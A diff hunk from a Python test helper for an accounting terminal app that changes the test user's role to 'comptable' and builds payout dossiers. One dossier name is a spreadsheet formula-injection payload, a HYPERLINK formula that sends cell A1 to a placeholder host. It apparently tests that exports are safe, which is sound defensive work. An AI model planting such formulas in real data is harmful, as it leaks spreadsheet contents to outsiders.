@@ -51,7 +51,7 @@ def _payout_base(path: Path, *, with_iban_less: bool = True):
     from clerc_tui.services.users import add_user
 
     init_database(str(path))
-    add_user(os_login(), "Claire Martin", "clerc")
+    add_user(os_login(), "Claire Martin", "comptable")  # the accounts run the reversements
     actor = identify()
     dossiers = [_dossier(actor, "SCI Les Tilleuls", IBAN, "100"),
                 _dossier(actor, '=HYPERLINK("http://x.example/?"&A1)', IBAN, "100")]
